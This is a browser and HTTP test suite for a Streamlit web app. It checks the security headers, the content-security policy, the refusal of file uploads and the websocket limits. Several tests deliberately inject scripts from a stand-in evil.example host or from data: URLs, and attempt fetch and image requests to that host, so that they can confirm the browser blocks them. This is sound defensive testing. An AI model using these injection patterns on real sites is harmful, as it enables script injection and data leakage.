"""What the served app lets in, and what a browser then lets run: nothing that is not from here."""

import http.client
import re
from collections.abc import Iterator
from contextlib import closing
from email.message import Message
from typing import Literal
from urllib.parse import urlsplit

import pytest
import websockets
from playwright.sync_api import Browser, BrowserContext, Page
from websockets.sync.client import connect

from tests.browser.harness import frame_of, map_frame, settle_map

REPORT = """addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
  console.error(`refused: ${effectiveDirective} ${blockedURI}`))"""
PAGES = ("", "?embed=true&place=china", "corridor", "timeline", "coverage", "own", "?lang=kk")
LOOKS = [("light", path) for path in PAGES] + [("dark", path) for path in ("", "corridor")]


def ask(address: str, method: str, path: str, body: bytes = b"") -> tuple[int, bytes, Message]:
    """Return status, body and headers of an answer."""
    with closing(http.client.HTTPConnection(urlsplit(address).netloc)) as connection:
        connection.request(method, path, body)
        answer = connection.getresponse()
        return answer.status, answer.read(), answer.headers


@pytest.fixture
def watched(browser: Browser, scheme: Literal["light", "dark"]) -> Iterator[BrowserContext]:
    """A browser that says what its policy refuses."""
    context = browser.new_context(color_scheme=scheme, viewport={"width": 1400, "height": 900})
    context.add_init_script(REPORT)
    yield context
    context.close()


def refusals(page: Page) -> list[str]:
    """Collect what the policy refuses, on a page or in its frames."""
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text) if "efused" in message.text else None)
    return told


@pytest.mark.parametrize(("scheme", "path"), LOOKS)
def test_page_needs_nothing_that_its_policy_refuses(watched: BrowserContext, address: str, path: str) -> None:
    """Text, map, charts and print, in light and dark; a second time with what the browser has kept."""
    for is_second in (False, True):
        page = watched.new_page()
        told = refusals(page)
        page.goto(f"{address}/{path}")
        page.locator("[data-passage], [data-leg], [data-event], [data-cell], .own form").first.wait_for()
        if path != "coverage":
            map_frame(page).locator(".leaflet-container[data-ready]").wait_for(state="attached")
            settle_map(page)
        if path == "corridor":
            charts = page.locator(".charts li.row")
            charts.last.scroll_into_view_if_needed()
            charts.last.hover()
        if is_second:
            page.pdf()
        page.close()

        assert told == []


def add_script(source: str) -> str:
    return f"document.head.append(Object.assign(document.createElement('script'), {source}))"


SCRIPTS = {
    "page": (
        "{ src: 'https://evil.example/a.js' }",
        "{ src: 'data:text/javascript,window.pwned=1' }",
        "{ textContent: 'window.pwned = 1' }",
    ),
    "map": ("{ src: 'https://evil.example/a.js' }", "{ src: 'data:text/javascript,window.pwned=1' }"),
}


@pytest.mark.parametrize("where", SCRIPTS)
def test_script_that_is_not_from_here_does_not_run(browser: Browser, address: str, where: str) -> None:
    """If text should ever become HTML after all, it can bring no script with it."""
    page = browser.new_page()
    page.add_init_script(REPORT)
    page.goto(address)
    map_frame(page).locator(".leaflet-container[data-ready]").wait_for(state="attached")
    frame = frame_of(page) if where == "map" else page.main_frame
    for source in SCRIPTS[where]:
        with page.expect_console_message(lambda message: message.text.startswith("refused: script-src-elem")):
            frame.evaluate(add_script(source))

        assert not frame.evaluate("'pwned' in window")
    page.close()


def test_page_sends_nothing_to_another_host(browser: Browser, address: str) -> None:
    page = browser.new_page()
    page.add_init_script(REPORT)
    page.goto(address)
    page.locator("[data-passage]").first.wait_for()
    for asked in ("fetch(address).catch(() => {})", "new Image().src = address"):
        with page.expect_console_message(lambda message: message.text.startswith("refused: ")) as told:
            page.evaluate(f"(address) => void ({asked})", "https://evil.example/")

        assert told.value.text.endswith("https://evil.example/")
    page.close()


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE"])
def test_served_app_takes_no_files(address: str, method: str) -> None:
    status, words, _ = ask(address, method, "/_stcore/upload_file/session/file", b"x" * 30_000)

    assert (status, words) == (404, b"No page here takes files.\n")


@pytest.mark.parametrize(
    "path", ["/", "/corridor", "/_stcore/health", "/app/static/leaflet/leaflet.js", "/gone"]
)
def test_every_answer_of_the_served_app_has_the_headers(address: str, path: str) -> None:
    """Those of Streamlit, of its static files, from memory or not, and where there is nothing."""
    for _ in range(2):
        _, _, headers = ask(address, "GET", path)

        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Referrer-Policy"] == "same-origin"
        assert headers["Content-Security-Policy"]


def say(address: str, message: bytes, origin: str) -> websockets.ConnectionClosed:
    """Send a message as a page does; return how the socket was closed."""
    stream = f"ws://{urlsplit(address).netloc}/_stcore/stream"
    protocol, whence = websockets.Subprotocol("streamlit"), websockets.Origin(origin)
    with connect(stream, subprotocols=[protocol], origin=whence, max_size=None) as socket:
        try:
            socket.send(message)
            while True:
                socket.recv()
        except websockets.ConnectionClosed as closed:
            return closed


def test_large_message_is_refused_before_it_is_kept(address: str) -> None:
    """Streamlit would hold 200 MB of each visitor before it looks at their size."""
    closed = say(address, b"\0" * 5_000_000, address)

    assert closed.rcvd is not None
    assert closed.rcvd.code == 1009  # message too big


def test_page_of_another_site_cannot_open_a_socket(address: str) -> None:
    with pytest.raises(websockets.InvalidStatus, match=re.escape("403")):
        say(address, b"", "http://evil.example")
